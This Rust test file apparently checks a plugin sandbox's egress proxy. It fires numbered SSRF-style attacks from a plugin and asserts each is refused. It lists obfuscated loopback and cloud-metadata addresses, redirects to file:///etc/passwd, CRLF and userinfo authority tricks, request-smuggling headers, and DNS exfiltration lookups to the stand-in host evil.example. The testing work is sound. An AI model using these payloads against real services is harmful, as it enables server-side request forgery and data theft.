//! Attacks of plugins on what they may not reach, thrown from inside a plugin at a running service. The numbers are those of
//! the list of attacks that plugbay is built against; a sentinel proves that nobody was connected to.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use futures_util::FutureExt as _;
use futures_util::future::LocalBoxFuture;
use serde_json::json;

use super::egress::World;
use super::support::app::until;

/// Numbers that need a test.
const WANTED: std::ops::RangeInclusive<u16> = 173..=195;

/// Numbers whose time or amount does not fit here: the unit test that has them, and its file.
const ELSEWHERE: &[(u16, &str, &str)] = &[
    (183, "crates/egress/src/tests/limits.rs", "time_silence_and_bytes_are_bounded"),
    (193, "crates/egress/src/tests/limits.rs", "ten_thousand_connections_get_no_more_places_than_there_are"),
];

struct Attack {
    numbers: &'static [u16],
    run: fn(&World) -> LocalBoxFuture<'_, ()>,
}

const TABLE: &[Attack] = &[
    Attack { numbers: &[173, 174, 184], run: |world| addresses(world).boxed_local() },
    Attack { numbers: &[175, 176, 177], run: |world| answers(world).boxed_local() },
    Attack { numbers: &[178, 182], run: |world| redirects(world).boxed_local() },
    Attack { numbers: &[179, 180, 185], run: |world| two_readings(world).boxed_local() },
    Attack { numbers: &[181], run: |world| schemes(world).boxed_local() },
    Attack { numbers: &[186, 187], run: |world| near_names(world).boxed_local() },
    Attack { numbers: &[188], run: |world| server_names(world).boxed_local() },
    Attack { numbers: &[189, 190, 194], run: |world| requests(world).boxed_local() },
    Attack { numbers: &[191], run: |world| ports(world).boxed_local() },
    Attack { numbers: &[192], run: |world| nothing_granted(world).boxed_local() },
    Attack { numbers: &[195], run: |world| labels(world).boxed_local() },
];

#[test]
fn every_number_has_exactly_one_test() {
    let mut seen: BTreeMap<u16, usize> = BTreeMap::new();
    let numbers = TABLE.iter().flat_map(|attack| attack.numbers).copied();
    for number in numbers.chain(ELSEWHERE.iter().map(|(number, ..)| *number)) {
        *seen.entry(number).or_default() += 1;
    }
    assert_eq!(seen, WANTED.map(|number| (number, 1)).collect());
    for (_, file, test) in ELSEWHERE {
        let text = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(file)).unwrap();
        assert!(text.contains(&format!("async fn {test}()")), "{test} in {file}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_leaves_but_what_was_granted() {
    for attack in TABLE {
        println!("attack {:?}", attack.numbers);
        let rules = ["allowed.test:PORT", "*.wild.test:PORT", "mixed.test:PORT", "rebind.test:PORT", "local.test:PORT"];
        let Some(world) = World::start(if attack.numbers == [192] { &[] } else { &rules }).await else { return };
        (attack.run)(&world).await;
        assert_eq!(world.sentinel.seen(), 0, "{:?}: somebody came to the sentinel", attack.numbers);
        world.served.end().await;
    }
}

impl World {
    /// The proxy refuses a way in, by one of these rules.
    async fn assert_refused(&self, request: &str, rules: &[&str]) {
        let said = self.proxy(request).await;
        let status = said.split(' ').nth(1).unwrap_or_default();
        assert!(["400", "403"].contains(&status), "{request:?}: {said}");
        assert!(rules.iter().any(|rule| said.contains(&format!("X-Plugbay-Rule: {rule}\r\n"))), "{request:?}: {said}");
    }

    async fn assert_no_way_to(&self, authority: &str) {
        let request = format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n");
        self.assert_refused(&request, &["target", "not-granted", "private-address", "request"]).await;
    }
}

async fn addresses(world: &World) {
    let port = world.sentinel.port;
    for host in [
        "127.0.0.1",
        "127.1",
        "127.0.1",
        "0",
        "0.0.0.0",
        "2130706433",
        "0x7f000001",
        "0x7f.0x0.0x0.0x1",
        "0177.0.0.1",
        "0177.0000.0000.0001",
        "127.127.127.127",
        "127.0.0.1.",
        "[::1]",
        "[::]",
        "[0000::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b:1::7f00:1]",
        "[2002:7f00:1::]",
        "[2001:0:7f00:1::]",
        "localhost",
        "localtest.me",
        "127.0.0.1.nip.io",
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "1.1.1.1",
        "①②⑦.⓪.⓪.①",
    ] {
        world.assert_no_way_to(&format!("{host}:{port}")).await;
    }
    assert_eq!(world.names.asked(), Vec::<String>::new());
}

async fn answers(world: &World) {
    let port = world.allowed.port;
    world.names.tell("mixed.test", &[&["93.184.216.34", "127.0.0.1"]]);
    world.names.tell("rebind.test", &[&["169.254.169.254"], &["127.0.0.1"], &["::ffff:127.0.0.1"]]);
    // `local.test` is another name of this machine.
    for name in ["mixed.test", "rebind.test", "rebind.test", "rebind.test", "local.test"] {
        let request = format!("CONNECT {name}:{port} HTTP/1.1\r\n\r\n");
        world.assert_refused(&request, &["private-address"]).await;
        let direct = world.try_with("fetch", json!([world.url(name)]), json!({"direct": true})).await;
        assert!(direct.is_err(), "{direct:?}");
    }
    assert_eq!(world.allowed.seen(), 0);
}

async fn redirects(world: &World) {
    let port = world.sentinel.port;
    let own = world.allowed.port;
    for to in [
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
        format!("https://second.test:{own}/"),
        format!("https://allowed.test:{port}/"),
        format!("http://allowed.test:{own}/"),
        "file:///etc/passwd".to_owned(),
        "gopher://127.0.0.1/".to_owned(),
    ] {
        for options in [json!({}), json!({"direct": true})] {
            let found =
                world.try_with("fetch", json!([format!("{}to/{to}", world.url("allowed.test"))]), options).await;
            // A plugin without a proxy that follows to its own loopback meets nobody there.
            assert!(found.is_err(), "{to}: {found:?}");
        }
    }
    let looping = world.url("allowed.test") + "to/" + &world.url("allowed.test");
    let followed = world.try_out("fetch", json!([looping])).await;
    assert!(followed.is_ok(), "the same host may be followed: {followed:?}");
    assert!(world.allowed.requests().iter().all(|line| !line.contains("meta-data/ HTTP") || line.contains("/to/")));
}

async fn two_readings(world: &World) {
    let (own, port) = (world.allowed.port, world.sentinel.port);
    for authority in [
        format!("allowed.test@127.0.0.1:{port}"),
        format!("allowed.test:{own}@127.0.0.1:{port}"),
        format!("127.0.0.1:{port}@allowed.test:{own}"),
        format!("127.0.0.1:{port}\\@allowed.test:{own}"),
        format!("127.0.0.1:{port}#@allowed.test:{own}"),
        format!("127.0.0.1:{port}?@allowed.test:{own}"),
        format!("allowed.test%00.127.0.0.1:{port}"),
        format!("allowed.test%2f127.0.0.1:{port}"),
        format!("allowed.test\0:{own}"),
        format!("allowed.test\r\nHost:127.0.0.1:{port}"),
        format!("allowed.test :{own}"),
        format!("allowed.test\t:{own}"),
        format!("allowed.test:{own}:{port}"),
    ] {
        world.assert_no_way_to(&authority).await;
        let request = format!("GET http://{authority}/ HTTP/1.1\r\nHost: allowed.test:{own}\r\n\r\n");
        world.assert_refused(&request, &["target", "request", "not-granted"]).await;
    }
    assert_eq!(world.allowed.seen(), 0);
}

async fn schemes(world: &World) {
    let port = world.sentinel.port;
    for scheme in ["gopher", "file", "ftp", "dict", "jar:http", "ldap", "tftp", "https", "sftp", "netdoc"] {
        let request = format!("GET {scheme}://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
        world.assert_refused(&request, &["request"]).await;
    }
    for url in [format!("ftp://127.0.0.1:{port}/x"), format!("ftp://allowed.test:{port}/x")] {
        let found = world.try_out("fetch", json!([url])).await;
        assert!(found.is_err(), "{url}: {found:?}");
    }
}

async fn near_names(world: &World) {
    let port = world.allowed.port;
    for name in [
        "evil-allowed.test",
        "evilallowed.test",
        "allowed.test.evil.test",
        "www.allowed.test",
        "test",
        "wild.test",
        "a.b.wild.test",
        "evilwild.test",
        "xn--allowed-.test",
        "allowed.xn--test-.test",
        "second.test",
    ] {
        world.assert_no_way_to(&format!("{name}:{port}")).await;
        assert!(world.try_out("lookup", json!([name])).await.is_err(), "{name}");
    }
    assert_eq!(world.allowed.seen(), 0);
    for name in ["allowed.test.", "ALLOWED.Test", "a.wild.test", "B.wild.test."] {
        let found = world.try_out("tls", json!([name, name.trim_end_matches('.'), port])).await;
        assert!(found.is_ok(), "{name}: {found:?}");
    }
}

async fn server_names(world: &World) {
    let port = world.allowed.port;
    for name in [json!("second.test"), json!("a.wild.test"), json!(null), json!("127.0.0.1")] {
        let found = world.try_out("tls", json!(["allowed.test", name, port])).await;
        assert!(found.as_ref().is_err_and(|text| text.contains("UNRECOGNIZED_NAME")), "{name}: {found:?}");
    }
    for text in ["GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "SSH-2.0-x\r\n"] {
        let found = world.try_out("raw", json!(["allowed.test", port, text])).await;
        assert!(found != Ok(json!("hello from the host")), "{found:?}");
    }
    assert_eq!(world.allowed.requests(), Vec::<String>::new());
}

async fn requests(world: &World) {
    let port = world.sentinel.port;
    let rule = format!("http://allowed.test:{port}");
    world.grant(&[&rule]).await;
    let url = format!("{rule}/");
    for head in [
        "Host: second.test".to_owned(),
        "Host: 127.0.0.1".to_owned(),
        format!("Host: allowed.test:{port}\r\nHost: second.test"),
        format!("Host: allowed.test:{port}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked"),
        format!("Host: allowed.test:{port}\r\nContent-Length: 3\r\nContent-Length: 4"),
        format!("Host: allowed.test:{port}\r\nTransfer-Encoding: chunked, identity"),
        format!("Host: allowed.test:{port}\r\nConnection: Content-Length\r\nContent-Length: 3"),
        format!("Host: allowed.test:{port}\r\nX : y"),
    ] {
        world.assert_refused(&format!("POST {url} HTTP/1.1\r\n{head}\r\n\r\nabc"), &["request"]).await;
    }
    for host in ["second.test", "127.0.0.1", "localhost"] {
        let request = format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n");
        world.assert_refused(&request, &["not-granted"]).await;
    }
}

async fn ports(world: &World) {
    for port in [22, 25, 80, 443, world.sentinel.port] {
        world.assert_no_way_to(&format!("allowed.test:{port}")).await;
        let found = world.try_out("raw", json!(["allowed.test", port, "x"])).await;
        assert!(found.is_err(), "{port}: {found:?}");
    }
    assert_eq!(world.allowed.seen(), 0);
}

async fn nothing_granted(world: &World) {
    for (way, with) in [
        ("fetch", json!([world.url("allowed.test")])),
        ("fetch", json!([format!("http://127.0.0.1:{}/", world.sentinel.port)])),
        ("lookup", json!(["allowed.test"])),
        ("raw", json!(["127.0.0.1", 3128, "CONNECT allowed.test:443 HTTP/1.1\r\n\r\n"])),
        ("raw", json!(["127.0.0.1", 53, "x"])),
    ] {
        let found = world.try_out(way, with.clone()).await;
        assert!(found.is_err(), "{way} {with}: {found:?}");
    }
    let listed = world.try_out("run", json!(["ls", "/run/plugbay"])).await.unwrap();
    assert!(!listed[1].as_str().unwrap().contains("egress"), "{listed}");
    assert_eq!(world.allowed.seen(), 0);
}

async fn labels(world: &World) {
    for at in 0..30 {
        let name = format!("c2VjcmV0{at}.evil.example");
        assert!(world.try_out("lookup", json!([name])).await.is_err());
    }
    world.assert_refused("CONNECT c2VjcmV0.evil.example:443 HTTP/1.1\r\n\r\n", &["not-granted"]).await;
    assert_eq!(world.names.asked(), Vec::<String>::new(), "no name leaves");
    // Ten of a minute are rows, written one after the other; the rest is counted in one.
    until("ten rows were written", async || world.refusals().await.len() >= 10).await;
    let refusals = world.refusals().await;
    assert_eq!(refusals.len(), 10, "{refusals:#?}");
    assert_eq!(refusals[0]["rule"], "not-granted");
    world.served.until_logged(super::egress::NAME, "evil.example` is not granted").await;
}
